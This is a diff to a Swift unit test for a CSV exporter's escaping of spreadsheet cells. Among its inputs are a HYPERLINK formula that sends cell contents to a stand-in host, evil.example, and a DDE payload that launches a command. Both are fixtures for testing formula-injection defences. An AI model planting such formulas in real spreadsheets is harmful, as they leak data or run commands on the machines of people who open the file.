@@ -82,7 +82,8 @@ import TradeStore
     /// number (a reversal's −100.00) stays a number.
     @Test(arguments: [("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此核对\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点此核对\"\")\""),
                       ("@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("\tx", "'\tx"),
-                      ("-100.00", "-100.00"), ("-5", "-5"), ("杭州银行", "杭州银行"), ("a=b", "a=b"), ("", "")])
+                      ("-100.00", "-100.00"), ("-5", "-5"), ("-12.3%", "-12.3%"), ("-1,234.50", "\"-1,234.50\""), ("-1%2", "'-1%2"), ("-%", "'-%"),
+                      ("杭州银行", "杭州银行"), ("a=b", "a=b"), ("", "")])
     func spreadsheetCellsAreNeutralised(cell: String, written: String) {
         #expect(CSVText.cell(cell) == written)
     }
